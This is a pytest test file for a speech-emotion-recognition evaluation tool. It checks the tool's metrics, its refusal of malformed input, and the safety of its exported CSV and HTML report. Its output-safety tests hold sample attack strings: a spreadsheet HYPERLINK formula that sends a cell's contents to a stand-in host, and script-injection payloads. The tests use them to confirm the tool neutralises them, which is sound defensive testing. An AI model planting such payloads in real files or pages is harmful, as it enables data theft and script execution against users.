"""evaluate, as a person types it: files that can be trusted, or one line that says what to mend and nothing written."""

import csv
import gzip
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from fairlearn.metrics import demographic_parity_difference, equalized_odds_difference
from sklearn.metrics import balanced_accuracy_score

from ser_core.__main__ import main

CHROMIUM = Path(os.environ.get("SER_CHROMIUM", "/usr/bin/chromium"))
EMOTIONS = ("neutral", "happiness", "sadness", "anger")
FILES = ["predictions.csv", "report.html", "report.json", "table.md"]


def spoken(n_speakers: int = 8, n_each: int = 5, methods: tuple[str, ...] = ("baseline", "ours"), seed: int = 0):
    """Everybody says every emotion `n_each` times; methods are right in 4 to 7 of 10 cases."""
    rng = np.random.default_rng(seed)
    n = n_speakers * len(EMOTIONS) * n_each
    number = np.arange(n) // (len(EMOTIONS) * n_each)
    one = pd.DataFrame(
        {
            "utterance_id": [f"u{place:06d}" for place in range(n)],
            "speaker": [f"speaker {s:03d}" for s in number],
            "gender": np.where(number % 2, "male", "female"),
            "emotion": np.tile(np.repeat(EMOTIONS, n_each), n_speakers),
        }
    )
    right = {name: rng.random(n) < 0.25 + 0.3 * place for place, name in enumerate(methods, 1)}
    return pd.concat(
        [
            one.assign(method=name, predicted_emotion=np.where(right[name], one["emotion"], rng.choice(EMOTIONS, n)))
            for name in methods
        ],
        ignore_index=True,
    )


GOOD = spoken(4, 2).to_csv(index=False)


@pytest.fixture
def evaluate(tmp_path, capsys):
    """Evaluate a table or the content of a file; (exit code, standard output, standard error, folder of results)."""

    def run(content: pd.DataFrame | str | bytes, *arguments: object) -> tuple[int, str, str, Path]:
        path, output = tmp_path / "mine.csv", tmp_path / "results"
        content = content.to_csv(index=False) if isinstance(content, pd.DataFrame) else content
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        command = ["evaluate", "--predictions", path, "--output", output, "--workspace", tmp_path / "ws", *arguments]
        code = main([str(part) for part in command])
        return code, *capsys.readouterr(), output

    return run


def read_strictly(path: Path) -> dict:
    def refuse(token: str):
        raise AssertionError(f"{token} is no JSON")

    return json.loads(path.read_text(encoding="utf-8"), parse_constant=refuse)


# files


def test_the_report_holds_the_keys_and_they_hold_the_libraries_numbers(evaluate):
    table = spoken()
    code, out, err, folder = evaluate(table)
    assert code == 0 and err == "" and sorted(file.name for file in folder.iterdir()) == FILES
    report = read_strictly(folder / "report.json")
    assert {"models", "comparisons", "leaks", "notes", "configuration"} <= set(report)
    for name, part in table.groupby("method"):
        model = report["models"][name]
        assert (model["n_utterances"], model["n_speakers"]) == (160, 8)
        assert model["uar"] == pytest.approx(balanced_accuracy_score(part["emotion"], part["predicted_emotion"]))
        assert f"{name}: UAR {model['uar']:.3f}" in out
        low, high = model["uar_interval"]
        assert low < model["uar"] < high
        for speaker, of in part.groupby("speaker"):
            expected = balanced_accuracy_score(of["emotion"], of["predicted_emotion"])
            assert model["speaker_uar"][speaker] == pytest.approx(expected)
        x = np.array(list(model["speaker_uar"].values()))
        assert model["gini"] == pytest.approx(0.5 * np.abs(x[:, None] - x).mean() / x.mean())
        assert model["excess_gini"] == pytest.approx(model["gini"] - model["gini_floor"])
        assert model["welfare"] == pytest.approx(
            {"0": x.mean(), "1": np.exp(np.log(x).mean()), "2": 1 / (1 / x).mean(), "5": (x**-4.0).mean() ** -0.25}
        )
        for emotion in EMOTIONS:
            truth, said = ((part[of] == emotion).astype(int) for of in ("emotion", "predicted_emotion"))
            women = part["gender"] == "female"
            assert model["recall_by_gender"]["female"][emotion] == pytest.approx(said[women & (truth == 1)].mean())
            parity = demographic_parity_difference(truth, said, sensitive_features=part["gender"])
            odds = equalized_odds_difference(truth, said, sensitive_features=part["gender"])
            assert model["delta_sp"][emotion] == pytest.approx(parity, abs=1e-9)
            assert model["delta_eo"][emotion] == pytest.approx(odds, abs=1e-9)
    [comparison] = report["comparisons"]
    assert (comparison["model"], comparison["against"]) == ("ours", "baseline") and 0 < comparison["p"] <= 1


def test_the_module_is_run_as_people_type_it(tmp_path):
    (tmp_path / "mine.csv").write_text(GOOD)
    command = [sys.executable, "-m", "ser_core", "evaluate", "--predictions", "mine.csv", "--output", "out"]
    done = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path, check=False)
    assert done.returncode == 0 and done.stderr == "" and "written: predictions.csv" in done.stdout
    (tmp_path / "mine.csv").write_text("speaker\na\n")
    done = subprocess.run([*command[:-1], "other"], capture_output=True, text=True, cwd=tmp_path, check=False)
    assert done.returncode == 2 and done.stdout == "" and not (tmp_path / "other").exists()
    assert done.stderr.startswith("attune evaluate: mine lacks the columns emotion") and done.stderr.count("\n") == 1


def test_without_a_folder_only_words_come_and_nothing_is_written(tmp_path, capsys):
    (tmp_path / "mine.csv").write_text(GOOD)
    assert main(["evaluate", "--predictions", str(tmp_path / "mine.csv")]) == 0
    assert "baseline: UAR" in capsys.readouterr().out and [file.name for file in tmp_path.iterdir()] == ["mine.csv"]


def test_the_table_that_was_written_gives_the_same_report_again(evaluate):
    table = spoken()
    table.loc[table["speaker"] == "speaker 003", "speaker"] = "=1+1"
    first = evaluate(table)[3]
    numbers = read_strictly(first / "report.json")["models"]
    again = evaluate((first / "predictions.csv").read_text())[3]
    for name, model in read_strictly(again / "report.json")["models"].items():
        for key in ("uar", "gini", "excess_gini", "welfare", "delta_sp", "delta_eo", "uar_by_gender", "confusion"):
            assert model[key] == numbers[name][key], key


def test_the_configuration_names_the_file_by_its_hash_and_leaks_are_not_claimed_to_be_absent(evaluate):
    import hashlib

    _, _, _, folder = evaluate(GOOD)
    report = read_strictly(folder / "report.json")
    assert report["configuration"]["sha256"] == hashlib.sha256(GOOD.encode()).hexdigest()
    assert report["configuration"]["predictions"] == "mine.csv" and report["leaks"] == {}
    assert "Leaks: not known" in (folder / "report.html").read_text()


def test_a_method_may_be_chosen_to_compare_with(evaluate):
    _, out, _, folder = evaluate(GOOD, "--against", "ours")
    [comparison] = read_strictly(folder / "report.json")["comparisons"]
    assert (comparison["model"], comparison["against"]) == ("baseline", "ours") and "baseline against ours" in out


def test_a_model_is_measured_on_a_corpus_now(tmp_path, tiny_model, synthetic_corpus, capsys):
    rows = synthetic_corpus.table.reset_index()[["utterance_id", "path", "speaker", "gender", "emotion", "text_id"]]
    rows.to_csv(tmp_path / "metadata.csv", index=False)
    corpus, output = f"manifest={tmp_path}", tmp_path / "results"
    arguments = ["--model", str(tiny_model), "--output", str(output), "--workspace", str(tmp_path / "ws")]
    assert main(["evaluate", "--corpus", corpus, *arguments]) == 0, capsys.readouterr().err
    report = read_strictly(output / "report.json")
    assert set(report["models"]) == {"baseline", "speaker_reference", "enrolment_attention"}
    sizes = {(model["n_utterances"], model["n_speakers"]) for model in report["models"].values()}
    n_speakers = rows["speaker"].nunique()
    n_enrolled = rows.groupby("speaker")["emotion"].nunique().sum()
    assert sizes == {(len(rows) - n_enrolled, n_speakers)}, "enrolled utterances are targets of no model"
    assert report["leaks"]["speakers_on_both_sides"] == [] and report["leaks"]["enrolment_among_targets"] == []
    assert len(report["configuration"]["corpus"]["sha256 of its table"]) == 64
    table = pd.read_csv(output / "predictions.csv")
    assert len(table) == 3 * (len(rows) - n_enrolled) and table.filter(like="p_").sum(axis=1).sub(1).abs().max() < 1e-3


# what is refused


def bad(**columns) -> str:
    return spoken(4, 2).assign(**columns).to_csv(index=False)


HALF = spoken(4, 2)["method"] == "baseline"
REFUSED = {
    "missing columns": ("speaker,text\na,hello\n", "lacks the columns emotion, predicted_emotion"),
    "an unknown label": (bad(emotion="hangry"), "'hangry' is not an emotion known here; choose one of"),
    "an unknown answer": (bad(predicted_emotion="meh"), "'meh' is not an emotion known here; choose one of"),
    "NaN probabilities": (bad(p_anger=np.nan, p_fear=[np.nan] * 31 + [1.0] + [0.5] * 32), "every p_ needs one"),
    "probabilities that do not sum to 1": (bad(p_anger=0.5, p_fear=0.4), "do not sum to 1"),
    "an infinite probability": (bad(p_anger=np.inf, p_fear=0.0), "not between 0 and 1"),
    "text in a number column": (bad(p_anger="high", p_fear=0.0), "no number"),
    "text in seed": (bad(seed="first"), "seed must hold whole numbers"),
    "a speaker with two genders": (bad(gender=["male", "female"] * 32), "two different values of gender"),
    "duplicate rows": (GOOD + GOOD.splitlines()[-1] + "\n", "stands there more than once"),
    "methods on different utterances": (
        bad(utterance_id=[f"{place}" for place in range(len(HALF))]),
        "different utterances; not one is shared",
    ),
    "a column twice": (GOOD.replace("gender", "speaker", 1), "column 'speaker' twice"),
    "an empty file": (b"", "cannot be read as a CSV"),
    "a binary file": (bytes(range(256)) * 20, "cannot be read as a CSV"),
    "a broken gzip": (gzip.compress(GOOD.encode() * 20)[:30] + b"\0" * 60, "cannot be read as a CSV"),
    "latin-1": (GOOD.replace("speaker 001", "Zoë").encode("latin-1"), "save it as UTF-8"),
    "only a header": (GOOD.splitlines()[0], "no rows"),
    "no class at all": (bad(emotion="other"), "nothing to measure"),
}


@pytest.mark.parametrize("kind", REFUSED)
def test_bad_input_gets_one_line_and_nothing_is_written(evaluate, kind):
    content, words = REFUSED[kind]
    code, out, err, folder = evaluate(content)
    assert code == 2 and out == "" and not folder.exists()
    assert err.startswith("attune evaluate: ") and err.count("\n") == 1 and words in err


def test_wrong_arguments_are_refused_in_one_line(evaluate, tmp_path, capsys):
    code, _, err, folder = evaluate(GOOD, "--against", "theirs")
    assert code == 2 and "choose one of baseline, ours" in err and not folder.exists()
    for arguments in ([], ["--predictions", "x.csv", "--corpus", "emodb=x"]):
        assert main(["evaluate", *arguments]) == 2
        assert "one of them is needed" in capsys.readouterr().err
    assert main(["evaluate", "--predictions", str(tmp_path / "none.csv")]) == 2
    assert "there is no 'none.csv'" in capsys.readouterr().err
    (tmp_path / "results").write_text("a file where a folder should be")
    code, _, err, _ = evaluate(GOOD)
    assert code == 2 and "results" in err and (tmp_path / "results").read_text().startswith("a file")


# what is measured as far as it can be


def nulls(value) -> bool:
    """Holds nothing but null."""
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else [value]
    return all(nulls(one) if isinstance(one, dict | list) else one is None for one in inner)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
@pytest.mark.parametrize("separator", [",", ";"])
def test_a_spreadsheets_encoding_and_separator_change_no_number(evaluate, encoding, separator):
    expected = read_strictly(evaluate(GOOD)[3] / "report.json")["models"]
    code, _, err, folder = evaluate(GOOD.replace(",", separator).encode(encoding))
    assert code == 0 and err == "" and read_strictly(folder / "report.json")["models"] == expected


def test_one_speaker_has_no_interval_no_p_and_no_groups(evaluate):
    code, out, _, folder = evaluate(spoken(1, 5))
    report = read_strictly(folder / "report.json")
    model, [comparison] = report["models"]["ours"], report["comparisons"]
    assert code == 0 and nulls([model["uar_interval"], model["gini_interval"], model["speaker_spread"]["sd"]])
    assert nulls([comparison[key] for key in ("p", "p_holm", "smallest_p", "difference_interval")])
    assert model["delta_sp"] == {} and re.search(r"\bnan\b", out) is None, out


def test_one_class_has_no_false_positives_and_so_no_equalised_odds(evaluate):
    _, _, _, folder = evaluate(spoken().assign(emotion="anger", predicted_emotion="anger"))
    model = read_strictly(folder / "report.json")["models"]["ours"]
    assert model["uar"] == 1 and nulls(model["delta_eo"]) and model["delta_sp"] == {"anger": 0}


def test_one_utterance_per_speaker_is_measured_with_wide_intervals(evaluate):
    table = spoken(40, 1)
    number = table["utterance_id"].str[1:].astype(int)
    table = table[number % 4 == number // 4 % 4]
    code, _, _, folder = evaluate(table)
    model = read_strictly(folder / "report.json")["models"]["ours"]
    assert code == 0 and model["n_utterances"] == model["n_speakers"] == 40
    assert all(high - low > 0.5 for low, high in model["speaker_uar_interval"].values())
    low, high = model["excess_gini_interval"]
    assert low < 0 < high


def test_a_class_nobody_speaks_has_no_recall(evaluate):
    table = spoken()
    table.loc[::9, "predicted_emotion"] = "surprise"
    code, _, _, folder = evaluate(table)
    model = read_strictly(folder / "report.json")["models"]["ours"]
    assert code == 0 and model["recall"]["surprise"] is None and model["delta_eo"]["surprise"] is None
    assert model["delta_sp"]["surprise"] is not None


def test_a_class_that_only_the_baseline_answers_is_shown_for_both(evaluate):
    table = spoken()
    table.loc[table.index[table["method"] == "baseline"][::9], "predicted_emotion"] = "surprise"
    code, _, _, folder = evaluate(table)
    assert code == 0 and sorted(file.name for file in folder.iterdir()) == FILES


def test_a_gender_with_one_speaker_is_not_estimable(evaluate):
    table = spoken()
    table["gender"] = np.where(table["speaker"] == "speaker 000", "female", "male")
    _, _, _, folder = evaluate(table)
    model = read_strictly(folder / "report.json")["models"]["ours"]
    assert set(model["recall_by_gender"]) == {"male"} and nulls([model["delta_sp"], model["delta_eo"]])
    assert model["groups"]["gender"]["not_estimable"] == {"female": "20 utterances of 1 speakers; 10 of 2 are needed"}
    assert nulls(model["groups"]["gender"]["uar_gap"]) and "20 utterances of 1 speakers" in (
        folder / "report.html"
    ).read_text(encoding="utf-8")


def test_models_measured_on_different_utterances_are_compared_on_the_shared_ones_and_it_is_said(evaluate):
    table = spoken()
    dropped = table[(table["method"] == "baseline") | (table.index % 4 != 0)]
    _, out, _, folder = evaluate(dropped)
    report = read_strictly(folder / "report.json")
    assert {model["n_utterances"] for model in report["models"].values()} == {120}
    assert "compared on the 120 that all share, 40 others were left out" in out
    shared = dropped[dropped["utterance_id"].duplicated(keep=False) & (dropped["method"] == "baseline")]
    expected = balanced_accuracy_score(shared["emotion"], shared["predicted_emotion"])
    assert report["models"]["baseline"]["uar"] == pytest.approx(expected)


def test_200_000_rows_work(evaluate):
    table = spoken(250, 100)
    assert len(table) == 200_000
    code, _, err, folder = evaluate(table)
    assert code == 0 and err == ""
    report = read_strictly(folder / "report.json")
    for name, part in table.groupby("method"):
        expected = balanced_accuracy_score(part["emotion"], part["predicted_emotion"])
        assert report["models"][name]["uar"] == pytest.approx(expected)
        assert report["models"][name]["n_utterances"] == 100_000


# names that mean something to a program

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"look")', "+1", "@x", "-x", "\tx"]


def test_no_text_cell_of_the_exported_table_starts_as_a_formula(evaluate):
    table = spoken(len(FORMULAS), 2)
    table["speaker"] = table["speaker"].map(dict(zip(table["speaker"].unique(), FORMULAS, strict=True)))
    table["@note"] = "=1+1"
    table["method"] = "+" + table["method"]
    code, _, _, folder = evaluate(table)
    with (folder / "predictions.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert code == 0 and "'=1+1" in cells and "'@note" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


class Elements(HTMLParser):
    """The tags of a page, what they would load, and the text that is shown."""

    def __init__(self, page: str):
        super().__init__()
        self.tags: list[str] = []
        self.loads: list[str] = []
        self.handlers: list[str] = []
        self.shown = ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.loads += [value for name, value in attrs if name in ("src", "href", "srcset", "data", "action", "poster")]
        self.handlers += [name for name, _ in attrs if name.startswith("on")]

    def handle_data(self, data):
        if self.tags[-1:] != ["script"]:
            self.shown += data


HOSTILE = {"speaker": "</script><script>alert(1)</script>", "method": '"><img src=http://x.example/p onerror=alert(2)>'}


def hostile() -> pd.DataFrame:
    table = spoken()
    return table.assign(
        **{column: table[column] + words for column, words in HOSTILE.items()}, accent="<b>" + table["gender"]
    )


def test_the_page_loads_nothing_and_names_from_the_data_are_text(evaluate):
    plain = spoken()
    expected = Elements((evaluate(plain.assign(accent=plain["gender"]))[3] / "report.html").read_text(encoding="utf-8"))
    page = (evaluate(hostile())[3] / "report.html").read_text(encoding="utf-8")
    found = Elements(page)
    assert found.tags == expected.tags, "names from the data made elements"
    assert found.loads == [] and found.handlers == []
    assert "@import" not in page.split("<script>")[0] and "url(" not in page.split("<script>")[0]
    for words in HOSTILE.values():
        assert words in found.shown


@pytest.fixture
def chromium(browser_type):
    if not CHROMIUM.exists():
        reason = f"no Chromium at {CHROMIUM}; install it, or name it in SER_CHROMIUM"
        (pytest.fail if os.environ.get("CI") else pytest.skip)(reason)
    browser = browser_type.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
    yield browser
    browser.close()


def test_the_page_opens_offline_in_a_browser_without_asking_anybody_for_anything(evaluate, chromium):
    page_file = evaluate(hostile())[3] / "report.html"
    context = chromium.new_context(offline=True)
    page = context.new_page()
    asked, troubles = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("pageerror", lambda error: troubles.append(str(error)))
    page.on("console", lambda message: troubles.append(message.text) if message.type == "error" else None)
    page.on("dialog", lambda dialog: (troubles.append(dialog.message), dialog.dismiss()))
    page.goto(page_file.as_uri())
    page.wait_for_function("document.querySelectorAll('.js-plotly-plot .main-svg').length > 5")
    assert [url for url in asked if not url.startswith(("file:", "data:", "blob:"))] == []
    assert troubles == []
    assert page.locator("h2").count() > 5 and page.locator("img").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
